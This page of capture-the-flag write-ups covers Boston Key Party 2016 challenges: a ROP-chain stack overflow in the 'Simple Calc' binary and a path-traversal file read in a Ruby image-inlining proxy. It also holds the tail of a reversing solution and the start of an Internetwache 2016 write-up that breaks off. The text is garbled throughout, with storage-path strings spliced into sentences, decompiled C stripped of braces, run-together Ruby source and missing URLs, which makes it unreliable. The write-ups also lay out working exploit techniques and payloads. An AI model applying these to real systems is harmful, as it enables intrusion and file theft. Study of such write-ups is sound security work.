If you look for all the tiny strings near the ones wefound around DATA that are "base64-esque", you'll get this list: Jv Uz X0 Zn tD dz99 MG Nv Fu Jk RH 4w S2 Vf b1 9z RV Bt Rz Rf MW. We have to probably use them in the right order, we already know the placement of most of those. We really only need to basically place ~8 strings in the correct order that'll decode correctly into ASCII. You can bruteforce, or you can examine the binary .so some more.

The characters seem to get added to the string, DATA, inside of the Cocos2dxPrefsFile.xml when the game is initialized, when the game layers are loaded, when certain high scores are achieved, and when the game is ending. By following the logical progression that would happen, e.g. you init first, load layers, get high score in linear order, and end the game, you'll form the correct base64 string.

echo 'MGN0ZntDMGNvUzJkX0FuRHJvMWRfRzBtRV9Zb1VfS24wdz99' | base64 --decode

Boston Key Party CTF 2016 WriteupsBoston Key Party (BkP) CTF is a challenging annual CTF organized by several Boston area university alums. It's a challenging CTF that has focused on exploitation, reversing, and cryptography in the past.

I have friends organizing it, so I gave their challenges a try and managed to solve a few.


Simple Calc

(pwn, solved by 186)

what a nice little calculator! 5400

I teamed up with @kierk for this challenge.

We're given an ELF64 binary. Opening it up in IDA and running the decompiler reveals to us:

int __cdecl main(int argc, const char **argv, const char **envp)
  void *v3; // [email protected]
  int result; // [email protected]
  const char *v5; // [email protected]
  __int64 v6; // [emailprotected]
  char v7; // [sp+10h] [bp-40h]@14
  int v8; // [sp+38h] [bp-18h]@5
  int v9; // [sp+3Ch] [bp-14h]@1
  __int64 v10; // [sp+40h] [bp-10h]@4
  int i; // [sp+4Ch] [bp-4h]@4

  v9 = 0;setvbuf(stdin, 0LL, 2LL, 0LL);
  v3 = stdout;
  setvbuf(stdout, 0LL, 2LL, 0LL);
  printf((unsigned__int64)"Expected number of calculations: ");
  _isoc99_scanf((unsigned __int64)"%d");
  handle_newline("%d", &v9);
  if ( v9 <= 255 && v9 > 3 )
    v5 = (const char *)(4 * v9);
    LODWORD(v6) = malloc(v5);
    v10 = v6;
    for ( i = 0; i < v9; ++i )
      v5 = "%d";
      _isoc99_scanf((unsigned __int64)"%d");
      handle_newline("%d", &v8);
      switch ( v8 )
        case 1:
          *(_DWORD *)(v10 + 4LL * i) = dword_6C4A88;
        case 2:
          *(_DWORD *)(v10 + 4LL * i) = dword_6C4AB8;
        case 3:
          *(_DWORD *)(v10 + 4LL * i) = dword_6C4AA8;
        case 4:
          *(_DWORD *)(v10 + 4LL * i) = dword_6C4A98;
          if ( v8 == 5 )
            memcpy(&v7, v10, 4 * v9);
            return 0;
          v5 = "Invalid option.\n";
          puts("Invalid option.\n");
    result = 0;
    puts("Invalid number.");
    result = 0;
  return result;

It seems the program is infact, a simple calc. The program can add, subtract, multiply, or divide for us. Looking deeper into the program's functions reveals that there's nothing really too interesting, summarized here:• print_motd - a simple 1 line printf, nothing exploitable
  • handle_newline - does getchar until a \0 or a \n, perhaps buggy, but doesn't seem exploitable
  • print_menu - simple printfs, nothing exploitable
  • adds, subs, muls, divs - do basic arithmetic of two arguments, the arguments are limited to > 39, for some reason. It seems you can cause integer overflows here perhaps. The interesting thing in these is that result of the functions seems to get put into the global data section, .bss.

The main function allows us 5 options, the 4 basic math operators, and a save and exit. The save and exit is particularly interesting. The save and exit option does a memcpy of global memory onto the stack. However, there was only 11 dwords allocated for the copy operation by the stack. If we ask main for more than 11 operations, prompted here: printf((unsigned __int64)"Expected number of calculations: ");, then we'll have a simple stack buffer overflow. With that, we can overwrite the return address, and initiate a ropchain.

There is one other interesting point here, and that's the call to free(). Initially we ran into the problem of free() failing, and causing a segmentation fault when we were playing with the program with over 11 operations. That's because we kept spamming the global memory with the values "40..41..42..43..44", and free() would try to free the memory located at 0x0000000000000059. We were stuck, but we guessed perhapsfree() doesn't fail for 0 or null, and that turned out to be true, as documented here:

The free function causes the space pointed to by ptr to be deallocated, that is, made available for further allocation. If ptr is a null pointer, no action occurs.

So we can simply make sure the 19th value copied onto the stack is 0x0000000000000000.

So let's create this ropchain, luckily the binary is gigantic, and has everything we need. Running ropgadget (also included in my sec-tools) on the binary produces for us an already complete ropchain:

ropgadget --binary b28b103ea5f1171553554f0127696a18c6d2dcf7 --ropchain

Now, we have to get that chain onto the stack, and we're set. We have control of a global array in memory that gets copied onto the stack. Getting the exact bytes we want into that global array is a bit tricky. We have to use one of the operations of the calculator (sub is my favourite), with specially crafted operands. The result of that calculation will be put into the global array. This part is a bit tricky in that it takes 2 operations of the calculator to fill 64-bit blocks in memory that the program uses (due to it being a 64-bit elf) - the calculations return 32-bit numbers. So, we end up with a chain of operations that looks like this:

2          # Subtract operation
100        # Result = 4602768

2          # Subtract operation
100        # Result = 0

2          # Subtract operation
100        # Result = 4602768

2          # Subtract operation
100        # Result = 05 # Save and exit operation

That will result in 0x0000000000463B90 and 0x0000000000463B90 quad-words in the global memory.

The global array is then copied onto the stack with a save and exit. The copying overwrites the return address on the stack, and begins our ropchain.

Now we have to somehow get the entire ropchain into memory with some calculator operations. I went with a low-tech pwning script for this exploitation. I wrote a pwn_script that outputted the above chain of operations, newlines included. When the pwn_header (to initiate 254 operations, and make sure free() frees 0x0) and the output of the pwn_script is copied into the remote session of the challenge, nc 5400, a series of subtraction operations with different operands will occur. Finally a 5 will be passed to the remote session, and cause a save and exit. That will kick off the ropchain now in the .bss section, revealing to us this tasty shell:

$ ls
$ cat key


(web, solved by 115)

inlining proxy hereThis was a fun challenge about a vulnerable Ruby program. Navigating to the webpage given brings us to a simple website that prompts us:

welcome to the automatic resource inliner, we inline all images go to / to get aninlined version of flag is in /flag source is in /source

Unfortunately the flag is not as easy as just navigating to

Navigating to /source gives us the source code:

require 'nokogiri'
require 'open-uri'
require 'sinatra'
require 'shellwords'
require 'base64'
require 'fileutils'

set :bind, ""
set :port, 5300
cdir = Dir.pwdget '/' do str = "welcome to the automatic resource inliner, we inline all images" str << " go to / to get an inlined version of" str << " flag
is in /flag" str << " source is in /source" str end

get '/source' do "/home/optiproxy/optiproxy.rb" end

get '/flag' do str = "I mean, /flag on the file system... If you're looking here, I question" str << " your skills" str end

get '/:url'
    url = params[:url]
    main_dir = Dir.pwdtemp_dir = ""
    dir = Dir.mktmpdir "inliner" Dir.chdir dir
    temp_dir = dir
    exec = "timeout 2 wget -T 2 --page-requisites #{Shellwords.shellescape url}" `#{exec}`
    my_dir = Dir.glob ("**/") Dir.chdir my_dir[0]
    index_file = "index.html"
    html_file = index_file
    doc = Nokogiri::HTML(open(index_file))
        |img| header = img.xpath('preceding::h2[1]').text
        image = img['src']
        img_data = ""uri_scheme = URI(image).scheme
            begin if (uri_scheme == "http" or uri_scheme == "https")
                url = image
                url = "http://#{url}/#{image}"
        img_data = open(url).read
        b64d = "data:image/png;base64," + Base64.strict_encode64(img_data)
        img['src'] = b64d rescue # gotta catch 'em all puts "lole" next end
    puts dir FileUtils.rm_rf dir Dir.chdir main_dir doc.to_html

At first glance, you might think to try exploiting exec = "timeout 2 wget -T 2 --page-requisites #{Shellwords.shellescape url}, but I was unable to find anything online that is able to escape Shellwords.shellescape. I believe it's safe to assume, that's a well written module, with no known exploits, and finding a 0day in it, while possible, is probably outside the scope of the challenge.

Moving on to understanding what exactly the code is doing, it seems to follow these steps:

  1. Parse out the parameter given after /, e.g. if navigated to
  2. Create a folder named inliner and change directory into it.
  3. Run wget to create a mirror of the website provided in (1)
  4. Parse index.html from the mirrored website, and for each img tag:
    1. Grab the src parameter of the img tag
      • If the src parameter's URI scheme is http or https, it's good to go
      • Else if the URI scheme isn't http or https, then form a string thatdoes have http uri scheme
    2. Open the url string created in (4a), and read the data from it
    3. Base64 the image data read, and change the src parameter of the img tag to the base64 of the image data
  5. Return the inliner dir to the user of the web app, and clean up

Okay, so where's the exploit? First things first, I tried passing something more interesting than just a simple webpage as the url to the web app to inline, i.e. file://../../../../flag, meaning I navigated to, but that just returns to us the error message saying flag isn't there. I then thought that what I actually needis a website with an img tag whose src parameter is file://../../../../flag, so I whipped that up quickly:

<img src="file://../../../../flag" />

I served the webpage off of my remote server with python3 -m http.server for a quick HTTP server. Navigating over to gives me a blank screen. Checking the console and source code reveals the issue: Not allowed to load local resource: file://../flag

It looks like the web app did mirror my website, it just didn't actually open the file, because of the uri_scheme check, file != http. Okay, so we really do need something that'll pass the URI scheme check, back to Google to learn more about Ruby's uri_scheme leads me to, jackpot. Interesting, it seems that a URL like http:/foobar will pass the uri_scheme check, and if we can somehow have a folder named http: (note the :) then we have a remote file read (into /flag!). Now... how do we possibly make the folder named http:.

After some thinking, I realized the solution, just make our fake website have a subdirectory named http: that'll get included by the index.html, because the wget call in the webapp is 2 levels deep, this will work!

<img src="./http:/hi" />
<img src="http:/../../../../../../../../flag" />

Note that the 2nd src tag above, is to http:/, and not http://. Getting that website inlined, will cause the Ruby web application to create a directory structure with a folder named http: in it, and then open a file in reference to the folder http:, and return to us:

<img src="data:image/png;base64,aGloaQo=">
<img src="data:image/png;base64,QktQQ1RGe21heWJlIGRvbnQgaW5saW5lIGV2ZXJ5dGhpbmcufQo=">

Decode the 2nd base64:BKPCTF{maybe dont inline everything.}

Internetwache 2016 CTF Writeups

The team I run at Boston University just got done competing in the Internetwache 2016 CTF. It was a bunch of fun, and we came in 84th out of 647 active teams, solving over 75% of the challenges.

In light of team members expressing their frustration when reading other people's writeups and how failures are not published enough, this set of writeups by me is going to have some failures =D.



(rev70, solved by 186)

Someone handed me this and told me that to pass the exam, I have to extract a secret string. I know cheating is bad, but once does not count. So are you willing to help me?

I teamed up with @kierk for this challenge.

After unzipping the challenge, we're presented with a single ELF32 ARM binary.

file serverfarm
serverfarm: ELF 32-bit LSB  executable, ARM, EABI5 version 1 (SYSV), dynamically linked (uses shared libs), for GNU/Linux 2.6.32, not stripped

Opening it up in IDA:


